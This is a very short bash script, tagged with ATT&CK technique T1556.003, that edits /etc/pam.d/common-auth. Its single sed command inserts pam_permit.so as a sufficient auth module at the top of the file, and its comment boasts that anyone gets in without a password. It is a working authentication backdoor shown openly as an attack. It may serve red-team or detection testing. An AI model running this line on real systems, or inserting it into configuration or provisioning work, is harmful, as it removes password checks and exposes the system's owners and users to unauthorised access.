#!/bin/bash
# T1556.003: Whoever knows no password comes in.
sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth
